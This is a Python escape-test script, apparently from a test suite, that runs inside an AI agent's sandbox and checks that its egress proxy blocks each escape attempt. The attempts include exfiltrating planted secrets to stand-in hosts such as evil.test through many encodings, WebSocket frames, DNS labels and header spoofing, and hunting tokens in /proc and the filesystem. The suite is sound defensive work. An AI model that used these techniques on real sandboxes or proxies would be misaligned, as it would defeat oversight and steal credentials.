#!/usr/bin/env python3
"""The attacker: runs INSIDE a live bottle (SPEC §10) and tries every escape.

Prints one JSON line per attempt: {"attack", "case", "outcome", "expect"}. `outcome` is
what happened ("403:<X-Bottle-Block>", "200", "ENETUNREACH", ...), `expect` the outcomes
that count as a failed escape. The host side (escape_suite.py) judges the lines and what
its upstream and loopback listener saw. Standard library only.

params.json (next to this file) holds ports and the secrets to plant, each reversed and
hex-encoded so that no file or command line in the bottle holds a secret in clear text
before attack 7 (the token hunt) has searched for it.
"""
import base64
import errno
import gzip
import http.client
import json
import os
import socket
import ssl
import subprocess
import sys
import threading
import time
import traceback
import urllib.parse
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))

def proxy_address():
    """Egress as the bottle's environment names it: 127.0.0.1:9099 on `local`, the
    forwarded address in a `vm` guest."""
    hostport = urllib.parse.urlsplit(os.environ.get("HTTP_PROXY") or "http://127.0.0.1:9099")
    return (hostport.hostname, hostport.port or 9099)


PROXY = proxy_address()
CA = "/run/bottle/bottle-ca.pem"
TIMEOUT = 8
EGRESS_MARK = '"error":"egress: '
PEM_KEY = b"PRIVATE " + b"KEY-----"  # split: this file must not match itself


def unhide(h):
    return bytes.fromhex(h).decode()[::-1]


P = json.load(open(os.path.join(HERE, "params.json")))
BACKEND = P.get("backend", "local")
# A tool (curl, git) is a process of its own: under TCG a guest needs many seconds just to
# load it, before any packet. Its own network timeout stays TIMEOUT; this bounds the rest.
TOOL_TIMEOUT = TIMEOUT + (60 if BACKEND == "vm" else 5)
# curl's whole transfer (TLS handshakes in a TCG guest that shares one vCPU with the other
# attacks: the first h2 request ran out of 8 s there). Never a wait on a dropped packet:
# the guest has no route, and egress answers every request.
CURL_MAX_TIME = 30 if BACKEND == "vm" else TIMEOUT
PORT = P["upstream_port"]
TLS_PORT = P["upstream_tls_port"]
ALLOWED = "allowed.test"  # routes: PORT (plain HTTP, no token), TLS_PORT (HTTPS, token injected)
ALLOWED_TLS = "%s:%d" % (ALLOWED, TLS_PORT)
CLEARTEXT = "cleartext.test"  # route: PORT (plain HTTP) with a token: egress must refuse it
WILD = "wild.test"        # route: *.wild.test on PORT, no auth


EMIT_LOCK = threading.Lock()  # the attacks run in threads (main()); one line at a time


def emit(attack, case, outcome, expect, **extra):
    line = {"attack": attack, "case": case, "outcome": outcome, "expect": expect}
    line.update(extra)
    with EMIT_LOCK:
        print(json.dumps(line), flush=True)


def err_name(e):
    if isinstance(e, ssl.SSLError):
        return "SSL:" + (e.reason or str(e))
    if isinstance(e, socket.gaierror):
        return "DNS:" + str(e.errno)
    if isinstance(e, socket.timeout):
        return "TIMEOUT"
    if isinstance(e, OSError) and e.errno:
        return errno.errorcode.get(e.errno, str(e.errno))
    return type(e).__name__ + ":" + str(e)[:80]


def judge_response(status, block, body):
    """403 counts only with the egress marker in the body and the block header."""
    if status == 403:
        if EGRESS_MARK not in body:
            return "403-without-egress-marker"
        return "403:" + (block or "?")
    return str(status)


# --- HTTP through the proxy ------------------------------------------------------------

def via_proxy(method, url, headers=None, body=None, host_header=None):
    """Absolute-form request to the proxy; returns the judged outcome."""
    try:
        c = http.client.HTTPConnection(*PROXY, timeout=TIMEOUT)
        c.putrequest(method, url, skip_host=True, skip_accept_encoding=True)
        host = host_header or urllib.parse.urlsplit(url).netloc
        c.putheader("Host", host)
        for k, v in (headers or {}).items():
            c.putheader(k, v)
        if isinstance(body, str):
            body = body.encode()
        if body is not None and "Transfer-Encoding" not in (headers or {}):
            c.putheader("Content-Length", str(len(body)))
        c.endheaders(body)
        r = c.getresponse()
        text = r.read().decode("utf-8", "replace")
        c.close()
        return judge_response(r.status, r.getheader("X-Bottle-Block"), text), text
    except Exception as e:  # every failure is an outcome to report, never a crash
        return err_name(e), ""


def recv_head(sock):
    data = b""
    while b"\r\n\r\n" not in data and len(data) < 65536:
        chunk = sock.recv(4096)
        if not chunk:
            break
        data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1]) if lines and len(lines[0].split()) > 1 else 0
    hdrs = {}
    for l in lines[1:]:
        k, _, v = l.partition(":")
        hdrs[k.strip().lower()] = v.strip()
    n = int(hdrs.get("content-length", "0") or 0)
    while len(rest) < n:
        chunk = sock.recv(4096)
        if not chunk:
            break
        rest += chunk
    return status, hdrs, rest.decode("utf-8", "replace")


def via_connect(authority, sni, method, path, host_header, headers=None, body=None,
                connect_headers=None):
    """CONNECT authority, then TLS (SNI `sni`, bottle CA) and one request inside."""
    try:
        s = socket.create_connection(PROXY, timeout=TIMEOUT)
        req = "CONNECT %s HTTP/1.1\r\nHost: %s\r\n" % (authority, authority)
        for k, v in (connect_headers or {}).items():
            req += "%s: %s\r\n" % (k, v)
        s.sendall((req + "\r\n").encode())
        status, hdrs, text = recv_head(s)
        if status != 200:
            s.close()
            return judge_response(status, hdrs.get("x-bottle-block"), text), text
        ctx = ssl.create_default_context(cafile=CA)
        ctx.check_hostname = False  # SNI may be the attacker's; the chain is still checked
        t = ctx.wrap_socket(s, server_hostname=sni)
        c = http.client.HTTPConnection(host_header, timeout=TIMEOUT)
        c.sock = t
        c.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        c.putheader("Host", host_header)
        for k, v in (headers or {}).items():
            c.putheader(k, v)
        if body is not None:
            c.putheader("Content-Length", str(len(body)))
        c.endheaders(body.encode() if body is not None else None)
        r = c.getresponse()
        text = r.read().decode("utf-8", "replace")
        t.close()
        return judge_response(r.status, r.getheader("X-Bottle-Block"), text), text
    except Exception as e:
        return err_name(e), ""


def open_tunnel(authority):
    """CONNECT through the proxy: (socket, None) once tunnelled, else (None, outcome)."""
    s = socket.create_connection(PROXY, timeout=TIMEOUT)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority, authority)).encode())
    status, hdrs, text = recv_head(s)
    if status == 200:
        return s, None
    s.close()
    return None, judge_response(status, hdrs.get("x-bottle-block"), text)


def judged_answer(s):
    """Reads one response and closes: its outcome, or "closed" when none came."""
    status, hdrs, text = recv_head(s)
    s.close()
    return "closed" if status == 0 else judge_response(status, hdrs.get("x-bottle-block"), text)


def second_request_on_same_connection(tunnel):
    """First an allowed request, then one for evil.test on the SAME connection: egress
    must judge every request, not just the connection's first."""
    try:
        if tunnel:
            s, refused = open_tunnel(ALLOWED_TLS)
            if refused:
                return refused
            s = ssl.create_default_context(cafile=CA).wrap_socket(s, server_hostname=ALLOWED)
            # The first request is one egress answers itself without closing: a DLP block.
            first = ("GET /first HTTP/1.1\r\nHost: %s\r\nX-Custom: %s\r\n\r\n"
                     % (ALLOWED, unhide(P["planted_hex"]["planted-ghp"])))
            second = "GET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n"
        else:
            s = socket.create_connection(PROXY, timeout=TIMEOUT)
            first = ("GET http://%s:%d/first HTTP/1.1\r\nHost: %s:%d\r\n\r\n"
                     % (ALLOWED, PORT, ALLOWED, PORT))
            second = "GET http://evil.test/second HTTP/1.1\r\nHost: evil.test\r\n\r\n"
        s.sendall(first.encode())
        recv_head(s)  # whatever the first gets
        s.sendall(second.encode())
        return judged_answer(s)
    except Exception as e:
        return err_name(e)


def plain_http_inside_tunnel():
    """CONNECT to the allowed host, then speak plain HTTP for another host inside."""
    try:
        s, refused = open_tunnel("%s:%d" % (ALLOWED, PORT))
        if refused:
            return refused
        s.sendall(b"GET /inner HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        return judged_answer(s)
    except Exception as e:
        return err_name(e)


def ws_frame(text, opcode=0x1, fin=True, rsv1=False):
    data, mask = (text if isinstance(text, bytes) else text.encode()), os.urandom(4)
    head = bytes([(0x80 if fin else 0) | (0x40 if rsv1 else 0) | opcode])
    head += bytes([0x80 | len(data)]) if len(data) < 126 else \
        bytes([0x80 | 126]) + len(data).to_bytes(2, "big")
    return head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data))


def websocket_exfil(payload, shape="text"):
    """Upgrade on the allowed route, prove the channel with a harmless frame, then send
    the secret in a masked frame: egress must cut the stream before it reaches upstream.
    `shape`: text (one frame), ping (a control frame), fragment (the secret in a FIN=0
    frame, then the rest), deflate (offer permessage-deflate, send an RSV1 frame)."""
    try:
        s = socket.create_connection(PROXY, timeout=TIMEOUT)
        key = base64.b64encode(os.urandom(16)).decode()
        ext = "Sec-WebSocket-Extensions: permessage-deflate\r\n" if shape == "deflate" else ""
        s.sendall(("GET http://%s:%d/ws HTTP/1.1\r\nHost: %s:%d\r\nUpgrade: websocket\r\n"
                   "Connection: Upgrade\r\nSec-WebSocket-Key: %s\r\n%s"
                   "Sec-WebSocket-Version: 13\r\n\r\n" % (ALLOWED, PORT, ALLOWED, PORT, key, ext))
                  .encode())
        status, hdrs, text = recv_head(s)
        if status != 101:
            return "no-upgrade:" + judge_response(status, hdrs.get("x-bottle-block"), text)
        s.sendall(ws_frame("hello"))
        if s.recv(16) != b"\x81\x02ok":
            return "channel-broken"
        if shape == "ping":
            s.sendall(ws_frame("leak=" + payload, opcode=0x9))
        elif shape == "fragment":
            s.sendall(ws_frame("leak=" + payload, fin=False) + ws_frame(" more", opcode=0x0))
        elif shape == "deflate":
            z = zlib.compressobj(wbits=-15)
            s.sendall(ws_frame(z.compress(("leak=" + payload).encode()) + z.flush(), rsv1=True))
        else:
            s.sendall(ws_frame("leak=" + payload))
        try:
            echo = s.recv(16)
        except OSError as e:
            return "cut" if e.errno == errno.ECONNRESET else err_name(e)
        return "cut" if echo == b"" else "delivered"
    except Exception as e:
        return err_name(e)


def raw_exchange(data):
    """Sends bytes to the proxy port and reports how it answered."""
    try:
        s = socket.create_connection(PROXY, timeout=TIMEOUT)
        s.sendall(data)
        return judged_answer(s)
    except Exception as e:
        return err_name(e)


def raw_connect(addr, family=socket.AF_INET, timeout=5):
    """Direct TCP, no proxy; returns (outcome, milliseconds)."""
    start = time.monotonic()
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect(addr)
        out = "CONNECTED"
    except Exception as e:
        out = err_name(e)
    finally:
        s.close()
    return out, int((time.monotonic() - start) * 1000)


def curl(*args, protocol=False):
    """Real tool, proxy from the bottle's environment (or -x / --noproxy in args). With
    `protocol`, curl speaks --http2 and the second value is the HTTP version that ran."""
    extra = ["--http2"] if protocol else []
    last = "%{http_version}" if protocol else "%{http_connect}"
    try:
        p = subprocess.run(["curl", "-sS", "--max-time", str(CURL_MAX_TIME), "-o", "/dev/stdout",
                            "-w", "\n%{http_code} " + last] + extra + list(args),
                           capture_output=True, text=True, timeout=TOOL_TIMEOUT)
    except Exception as e:
        return err_name(e), "none" if protocol else ""
    body, _, codes = p.stdout.rpartition("\n")
    code, _, tail = codes.partition(" ")
    second = (tail or "none") if protocol else p.stderr.strip()
    if not protocol and tail not in ("000", "200", ""):
        return "curl-connect-" + tail, second
    if code in ("000", ""):
        return "curl-exit-%d" % p.returncode, second
    block = ""
    if code == "403" and EGRESS_MARK in body:
        try:
            block = json.loads(body).get("reason", "")
        except ValueError:
            pass
    return judge_response(int(code), block, body), tail if protocol else body


BLOCK_HOST = ["403:host_not_allowed"]
BLOCK_HOST_OR_MISMATCH = ["403:host_not_allowed", "403:host_mismatch"]
# A request egress cannot parse safely is refused outright (SPEC §4.2.1: 400).
REFUSED_AS_MALFORMED = ["400", "403:bad_request", "ECONNRESET"]
BLOCK_DLP = ["403:dlp_outbound"]
NET = ["ENETUNREACH", "ECONNREFUSED", "EHOSTUNREACH"]


# --- 7. the token hunt (first, before any attack leaves reflections around) -------------

def attack7(hunted):
    needles = [s.encode() for s in hunted]
    env_hits = [k for k, v in os.environ.items() if any(s in v for s in hunted)]
    emit("7", "env", "found:" + ",".join(env_hits) if env_hits else "clean", ["clean"])

    procs, proc_hits = [], []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            comm = open("/proc/%s/comm" % pid).read().strip()
        except OSError:
            continue
        procs.append(comm)
        for f in ("environ", "cmdline"):
            try:
                data = open("/proc/%s/%s" % (pid, f), "rb").read()
            except OSError:
                continue
            if any(n in data for n in needles):
                proc_hits.append("%s/%s(%s)" % (pid, f, comm))
    sidecar = sorted(c for c in procs if c.startswith("bottle") or c in ("nginx",))
    emit("7", "proc-sidecar-visible", "visible:" + ",".join(sidecar) if sidecar else "hidden",
         ["hidden"], procs=procs)
    emit("7", "proc-environ-cmdline", "found:" + ",".join(proc_hits) if proc_hits else "clean",
         ["clean"])

    visible = [p for p in P["host_paths"] if os.path.exists(p)]
    emit("7", "host-state-dirs", "visible:" + ",".join(visible) if visible else "hidden",
         ["hidden"])

    # Every readable file, most likely places first, within a time budget. The priority
    # roots must be covered completely.
    me = os.path.abspath(os.path.join(HERE, "params.json"))
    priority = ["/run", "/home", "/root", "/tmp", os.getcwd(), "/etc", "/var", "/opt",
                "/srv", "/mnt", "/media"]
    rest = sorted("/" + d for d in os.listdir("/") if "/" + d not in priority
                  and d not in ("proc", "sys", "dev"))
    deadline = time.monotonic() + P.get("walk_seconds", 25)
    hits, done, files, key_files = [], [], 0, []
    for root in priority + rest:
        if not os.path.isdir(root):
            done.append(root)
            continue
        complete = True
        for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
            if dirpath.startswith(("/proc", "/sys", "/dev")):
                dirnames[:] = []
                continue
            if time.monotonic() > deadline:
                complete = False
                break
            for fn in filenames:
                path = os.path.join(dirpath, fn)
                if path == me or os.path.islink(path):
                    continue
                try:
                    if not os.path.isfile(path) or os.path.getsize(path) > 64 << 20:
                        continue
                    with open(path, "rb") as f:
                        data = f.read()
                except OSError:
                    continue
                files += 1
                if any(n in data for n in needles):
                    hits.append(path)
                if PEM_KEY in data and path not in key_files:
                    key_files.append(path)
        if complete:
            done.append(root)
    missing = [r for r in priority if r not in done]
    # The bottle CA's key would let the agent mint certificates its own tools trust; no
    # private key belongs where the sandbox mounts its own files.
    keys = [p for p in key_files if p.startswith(("/run", "/home", "/root", "/tmp",
                                                   os.getcwd()))]
    emit("7", "private-keys", "found:" + ",".join(keys) if keys else "clean", ["clean"])
    emit("7", "files", "found:" + ",".join(hits) if hits else
         ("incomplete:" + ",".join(missing) if missing else "clean"), ["clean"],
         files=files, covered=done)


# --- the other attacks --------------------------------------------------------------------

def attack_legit():
    # The token route is HTTPS: egress injects the token only inside TLS to the upstream.
    out, body = via_connect(ALLOWED_TLS, ALLOWED, "GET", "/legit", ALLOWED_TLS,
                            headers={"Authorization": "Bearer agent-placeholder-value"})
    emit("legit", "python-bumped", out, ["200"])
    # Harmless bodies pass in every framing the exfiltration cases use, so a 403 there
    # is about the secret, not the shape.
    benign = b"data=hello world"
    for tag, headers, body in (
            ("post", None, benign),
            ("post-gzip", {"Content-Encoding": "gzip"}, gzip.compress(benign)),
            ("post-chunked", {"Transfer-Encoding": "chunked"},
             b"%x\r\n%s\r\n0\r\n\r\n" % (len(benign), benign))):
        out, _ = via_proxy("POST", "http://%s:%d/legit-%s" % (ALLOWED, PORT, tag),
                           headers=headers, body=body)
        emit("legit", "python-" + tag, out, ["200"])
    out, body = curl("-H", "Authorization: Bearer agent-placeholder-value",
                     "https://%s/legit-curl" % ALLOWED_TLS)
    emit("legit", "curl-env-proxy", out, ["200"])


def attack1():
    for host in ("evil.test", "exfil.invalid", "allowed.test.evil.test"):
        out, _ = via_proxy("GET", "http://%s/x" % host)
        emit("1", "http-" + host, out, BLOCK_HOST)
        out, _ = via_connect(host + ":443", host, "GET", "/x", host)
        emit("1", "connect-" + host, out, BLOCK_HOST)
    out, _ = curl("http://evil.test/curl")
    emit("1", "curl-http", out, BLOCK_HOST)
    # curl cannot show a CONNECT response body; the raw CONNECT cases above do.
    out, _ = curl("https://evil.test/curl")
    emit("1", "curl-https", out, ["curl-connect-403"])
    # A route exists for allowed.test on PORT and 443 only.
    out, _ = via_proxy("GET", "http://%s:%d/other-port" % (ALLOWED, PORT + 1))
    emit("1", "allowed-host-other-port", out, BLOCK_HOST + ["403:route_not_matched"])


def attack2():
    for ip in ("127.0.0.1", "[::1]", "2130706433", "0x7f.0.0.1", "127.1", "0.0.0.0"):
        out, _ = via_proxy("GET", "http://%s:%d/ip" % (ip, PORT))
        emit("2", "http-ip-" + ip, out, BLOCK_HOST + ["403:bad_request", "400"])
    out, _ = via_connect("127.0.0.1:%d" % PORT, ALLOWED, "GET", "/ip", ALLOWED)
    emit("2", "connect-ip", out, BLOCK_HOST)
    out, _ = via_connect("127.0.0.1:443", ALLOWED, "GET", "/ip", ALLOWED)
    emit("2", "connect-ip-443", out, BLOCK_HOST)
    # The bottle's NO_PROXY lists 127.0.0.1: curl goes direct and meets the bottle's own
    # loopback; --noproxy "" sends it through egress instead.
    for scheme, via_egress in (("http", BLOCK_HOST), ("https", ["curl-connect-403"])):
        url = "%s://127.0.0.1:%d/ip-curl" % (scheme, PORT)
        out, _ = curl(url)
        emit("2", "curl-%s-ip-direct" % scheme, out, ["curl-exit-7"])
        out, _ = curl("--noproxy", "", url)
        emit("2", "curl-%s-ip-via-egress" % scheme, out, via_egress)
    out, _ = via_proxy("GET", "http://127.0.0.1:%d/spoof" % PORT, host_header=ALLOWED)
    emit("2", "ip-url-allowed-host-header", out, BLOCK_HOST_OR_MISMATCH)
    out, _ = via_proxy("GET", "http://evil.test:%d/spoof" % PORT,
                       host_header="%s:%d" % (ALLOWED, PORT))
    emit("2", "evil-url-allowed-host-header", out, BLOCK_HOST_OR_MISMATCH)
    out, _ = via_proxy("GET", "http://%s:%d/spoof" % (ALLOWED, PORT), host_header="evil.test")
    emit("2", "allowed-url-evil-host-header", out, BLOCK_HOST_OR_MISMATCH)
    out, _ = via_connect("evil.test:443", ALLOWED, "GET", "/spoof", ALLOWED)
    emit("2", "connect-evil-sni-host-allowed", out, BLOCK_HOST)
    out, _ = via_connect(ALLOWED_TLS, "evil.test", "GET", "/spoof", "evil.test")
    emit("2", "connect-allowed-inner-evil", out, BLOCK_HOST_OR_MISMATCH)
    out, _ = via_connect(ALLOWED_TLS, ALLOWED, "GET", "/spoof", "evil.test")
    emit("2", "connect-allowed-host-evil", out, BLOCK_HOST_OR_MISMATCH)
    # Inside the tunnel, an absolute-form target naming another host.
    out, _ = via_connect(ALLOWED_TLS, ALLOWED, "GET", "http://evil.test/abs", ALLOWED_TLS)
    emit("2", "connect-allowed-absolute-form-evil", out,
         BLOCK_HOST_OR_MISMATCH + REFUSED_AS_MALFORMED)
    out, _ = curl("--resolve", "%s:443:127.0.0.1" % ALLOWED, "-H", "Host: " + ALLOWED,
                  "https://evil.test/resolve")
    emit("2", "curl-resolve-host-spoof", out,
         ["curl-connect-403"])
    out, _ = curl("-H", "Host: " + ALLOWED, "http://evil.test:%d/resolve" % PORT)
    emit("2", "curl-http-host-spoof", out, BLOCK_HOST_OR_MISMATCH)
    # URL parser confusion: which of the two names does egress judge, which one dial?
    for url in ("http://%s:%d@evil.test/" % (ALLOWED, PORT),
                "http://evil.test#@%s:%d/" % (ALLOWED, PORT),
                "http://evil.test\\@%s:%d/" % (ALLOWED, PORT),
                "http://evil.test%%2f@%s:%d/" % (ALLOWED, PORT),
                "http://%s.:%d/" % ("evil.test", PORT)):
        out, _ = via_proxy("GET", url, host_header=urllib.parse.urlsplit(url).netloc)
        emit("2", "url-confusion " + url, out, BLOCK_HOST_OR_MISMATCH + REFUSED_AS_MALFORMED)
    emit("2", "keepalive-second-request-evil", second_request_on_same_connection(False),
         BLOCK_HOST_OR_MISMATCH)
    emit("2", "tunnel-second-request-evil", second_request_on_same_connection(True),
         BLOCK_HOST_OR_MISMATCH)
    emit("2", "plain-http-inside-tunnel-evil", plain_http_inside_tunnel(),
         BLOCK_HOST_OR_MISMATCH + REFUSED_AS_MALFORMED + ["closed"])
    # Around the proxy: the pinned address is the host's loopback, not the bottle's.
    out, _ = curl("--noproxy", "*", "--resolve", "%s:%d:127.0.0.1" % (ALLOWED, PORT),
                  "http://%s:%d/direct" % (ALLOWED, PORT))
    emit("2", "curl-noproxy-resolve", out,
         ["curl-exit-7"])


def encodings(secret):
    return {
        "raw": secret,
        "b64": base64.b64encode(secret.encode()).decode(),
        "pct": "".join("%%%02X" % b for b in secret.encode()),
    }


def attack3(secrets):
    for name, secret in secrets.items():
        for enc, v in encodings(secret).items():
            q = urllib.parse.quote(v, safe="%")
            cases = {
                "path": dict(method="GET", path="/leak/" + q),
                "query": dict(method="GET", path="/leak?q=" + q),
                "body": dict(method="POST", path="/leak", body="data=" + v),
                "header": dict(method="GET", path="/leak", headers={"X-Custom": v}),
            }
            for where, c in cases.items():
                tag = "%s-%s-%s" % (name, enc, where)
                out, _ = via_proxy(c["method"], "http://%s:%d%s" % (ALLOWED, PORT, c["path"]),
                                   headers=c.get("headers"), body=c.get("body"))
                emit("3", "http-" + tag, out, BLOCK_DLP)
                # Through the bump to the HTTPS upstream (trusted through upstream_ca).
                out, _ = via_connect(ALLOWED_TLS, ALLOWED, c["method"], c["path"], ALLOWED_TLS,
                                     headers=c.get("headers"), body=c.get("body"))
                emit("3", "https-" + tag, out, BLOCK_DLP)


def attack3_evasion(secrets):
    """Encodings and framings a careful attacker would try on the plain-HTTP route."""
    url = "http://%s:%d/evade" % (ALLOWED, PORT)
    for name in ("route-token", "planted-ghp"):
        v = secrets[name]
        raw = ("data=" + v).encode()
        split = len(raw) // 2
        chunked = b"%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n" % (split, raw[:split], len(raw) - split,
                                                          raw[split:])
        zw = "\u200b".join(v[i:i + 4] for i in range(0, len(v), 4))
        cases = {
            "gzip-body": dict(body=gzip.compress(raw), headers={"Content-Encoding": "gzip"}),
            "deflate-body": dict(body=zlib.compress(raw), headers={"Content-Encoding": "deflate"}),
            "unknown-encoding-body": dict(body=raw, headers={"Content-Encoding": "x-rot13"}),
            "chunked-split-body": dict(body=chunked, headers={"Transfer-Encoding": "chunked"}),
            "zero-width-body": dict(body="data=" + zw),
            "hex-query": dict(query="q=" + v.encode().hex()),
            "double-pct-query": dict(query="q=" + "".join("%%25%02X" % b for b in v.encode())),
            "b64url-header": dict(headers={"X-Custom": base64.urlsafe_b64encode(
                v.encode()).decode().rstrip("=")}),
            "b64-shifted-body": dict(body="data=" + base64.b64encode(b"x" + v.encode()).decode()),
        }
        for tag, c in cases.items():
            u = url + ("?" + c["query"] if "query" in c else "")
            out, _ = via_proxy("POST" if "body" in c else "GET", u, headers=c.get("headers"),
                               body=c.get("body"))
            emit("3", "evade-%s-%s" % (name, tag), out, BLOCK_DLP)


def attack3_h2(secrets):
    """curl --http2 through the bump (issue 14): the protocol that ran is asserted, then the
    planted token in path, query, header and body must be refused on an h2 stream."""
    ghp = secrets["planted-ghp"]
    outcome, proto = curl("https://%s/h2-probe" % ALLOWED_TLS, protocol=True)
    emit("3", "h2-negotiated", "http/" + proto, ["http/2"], legit=outcome)
    for where, extra in (("path", ["https://%s/leak/%s" % (ALLOWED_TLS, ghp)]),
                         ("query", ["https://%s/leak?q=%s" % (ALLOWED_TLS, ghp)]),
                         ("header", ["-H", "X-Custom: " + ghp, "https://%s/leak" % ALLOWED_TLS]),
                         ("body", ["-d", "t=" + ghp, "https://%s/leak" % ALLOWED_TLS])):
        out, proto = curl(*extra, protocol=True)
        # The block must have come back over h2, not a fallback to HTTP/1.1.
        emit("3", "h2-planted-ghp-raw-%s" % where, "%s over http/%s" % (out, proto),
             ["%s over http/2" % b for b in BLOCK_DLP], protocol=proto)


def attack3_websocket(secrets):
    for name, secret in secrets.items():
        for enc, v in encodings(secret).items():
            emit("3ws", "ws-frame-%s-%s" % (name, enc), websocket_exfil(v), ["cut"])
        for shape in ("ping", "fragment", "deflate"):
            emit("3ws", "ws-%s-%s" % (shape, name), websocket_exfil(secret, shape), ["cut"])


def attack_cleartext(secrets):
    """The token may only travel inside TLS to the upstream (SPEC §4.2.10): a token route
    reached over plain HTTP is refused, whatever the shape."""
    BLOCK_CLEAR = ["403:cleartext_credential"]
    out, _ = via_proxy("GET", "http://%s:%d/clear" % (CLEARTEXT, PORT))
    emit("cleartext", "absolute-form-plain-route", out, BLOCK_CLEAR)
    # http:// to the HTTPS route's own port ("http://host:443/").
    out, _ = via_proxy("GET", "http://%s/clear" % ALLOWED_TLS)
    emit("cleartext", "absolute-form-to-the-tls-port", out, BLOCK_CLEAR)
    # Plain HTTP inside a CONNECT tunnel to the token route.
    try:
        s, refused = open_tunnel(ALLOWED_TLS)
        if refused:
            out = refused
        else:
            s.sendall(("GET /clear HTTP/1.1\r\nHost: %s\r\n\r\n" % ALLOWED_TLS).encode())
            out = judged_answer(s)
    except Exception as e:
        out = err_name(e)
    emit("cleartext", "plain-http-inside-tunnel", out, BLOCK_CLEAR)
    out, _ = curl("http://%s:%d/clear-curl" % (CLEARTEXT, PORT))
    emit("cleartext", "curl-env-proxy", out, BLOCK_CLEAR)


def dns_query(server, name="example.com", family=socket.AF_INET):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00\x00\x01\x00\x01"
    start = time.monotonic()
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.connect(server)  # connected: an ICMP refusal comes back as ECONNREFUSED at once
        s.send(q)
        s.recv(512)
        out = "ANSWERED"
    except Exception as e:
        out = err_name(e)
    finally:
        s.close()
    return out, int((time.monotonic() - start) * 1000)


def attack4(secrets):
    ghp = secrets["planted-ghp"]
    out, _ = via_proxy("GET", "http://%s.%s:%d/" % (ghp.lower(), ALLOWED, PORT))
    emit("4", "subdomain-of-exact-route-http", out, BLOCK_HOST + BLOCK_DLP)
    out, _ = via_connect("%s.%s:443" % (ghp.lower(), ALLOWED), ALLOWED, "GET", "/", ALLOWED)
    emit("4", "subdomain-of-exact-route-connect", out, BLOCK_HOST + BLOCK_DLP)
    out, _ = curl("https://%s.%s/" % (ghp.lower(), ALLOWED))
    emit("4", "subdomain-curl", out,
         ["curl-connect-403"])
    # A wildcard route would forward any label: only DLP on the host name stops this.
    # (The route token is not tried here: the host side would have to pin its name.)
    # base32 (DNS folds case, so an encoding must survive lower-casing); of the known secret,
    # whose encoding fits in one 63-byte label.
    b32 = base64.b32encode(secrets["known-secret"].encode()).decode().rstrip("=").lower()
    for name, label in (("planted-ghp", secrets["planted-ghp"]),
                        ("known-secret", secrets["known-secret"]), ("known-secret-base32", b32)):
        out, _ = via_proxy("GET", "http://%s.%s:%d/" % (label, WILD, PORT))
        emit("4", "wildcard-label-http-" + name, out, BLOCK_DLP)
        # A CONNECT to the name is refused before any tunnel: the labels are scanned there.
        out, _ = via_connect("%s.%s:%d" % (label, WILD, PORT), label + "." + WILD, "GET", "/",
                             "%s.%s:%d" % (label, WILD, PORT))
        emit("4", "wildcard-label-connect-" + name, out, BLOCK_DLP)
    for server in ("8.8.8.8", "1.1.1.1"):
        out, ms = dns_query((server, 53))
        emit("4", "udp-dns-" + server, out, ["ENETUNREACH"], ms=ms)
    out, ms = dns_query(("2001:4860:4860::8888", 53), family=socket.AF_INET6)
    emit("4", "udp-dns-v6", out, ["ENETUNREACH", "EADDRNOTAVAIL"], ms=ms)
    for server in ("127.0.0.53", "127.0.0.1"):
        out, ms = dns_query((server, 53))
        emit("4", "udp-dns-loopback-" + server, out, ["ECONNREFUSED", "TIMEOUT"], ms=ms)
    try:
        socket.getaddrinfo("example.com", 443)
        out = "RESOLVED"
    except Exception as e:
        out = "DNS-FAILED"
    emit("4", "getaddrinfo", out, ["DNS-FAILED"])
    for addr in (("1.1.1.1", 443), ("8.8.8.8", 53), ("10.0.0.1", 80)):
        out, ms = raw_connect(addr)
        emit("4", "tcp-%s:%d" % addr, out, ["ENETUNREACH"], ms=ms)
    out, ms = raw_connect(("2606:4700:4700::1111", 443), socket.AF_INET6)
    emit("4", "tcp-v6-public", out, ["ENETUNREACH", "EADDRNOTAVAIL"], ms=ms)
    out, _ = curl("--noproxy", "*", "https://1.1.1.1/")
    emit("4", "curl-noproxy-public", out,
         ["curl-exit-7"])


def attack5():
    out, _ = via_proxy("POST", "http://%s:%d/org/app.git/git-receive-pack" % (ALLOWED, PORT),
                       headers={"Content-Type": "application/x-git-receive-pack-request"},
                       body="0000")
    emit("5", "receive-pack-http", out, ["403:git_push_via_proxy"])
    out, _ = via_connect(ALLOWED_TLS, ALLOWED, "POST", "/org/app.git/git-receive-pack",
                         ALLOWED_TLS, headers={"Content-Type":
                                           "application/x-git-receive-pack-request"},
                         body="0000")
    emit("5", "receive-pack-https", out, ["403:git_push_via_proxy"])
    out, _ = via_proxy("GET", "http://%s:%d/org/app.git/info/refs?service=git-receive-pack"
                       % (ALLOWED, PORT))
    emit("5", "receive-pack-advertisement", out, ["403:git_push_via_proxy"])
    # Spellings a lenient server may still route to receive-pack.
    for target in ("/org/app.git/info/refs?service=git-receive-pac%6b",
                   "/org/app.git/info/refs?service=GIT-RECEIVE-PACK",
                   "/org/app.git/git-receive-pack/", "/org/app.git/GIT-RECEIVE-PACK",
                   "/org/app.git/git-receive-pac%6b"):
        out, _ = via_proxy("POST", "http://%s:%d%s" % (ALLOWED, PORT, target), body="0000")
        emit("5", "receive-pack-spelling " + target, out, ["403:git_push_via_proxy"])


# --- 5 (git-gate). Push secrets through the gate ------------------------------------------

GIT_DETECTORS = ("secret.aws_access_key_id", "secret.anthropic_api_key", "secret.pem_private_key")


def gate_git(*args, cwd=None):
    """git for the git-gate attack (attack 9 has its own `git`)."""
    try:
        p = subprocess.run(["git"] + list(args), cwd=cwd, capture_output=True, text=True,
                           timeout=90)
        return p.returncode, p.stdout + p.stderr
    except Exception as e:
        return -1, err_name(e)


def commit_files(repo, files, message):
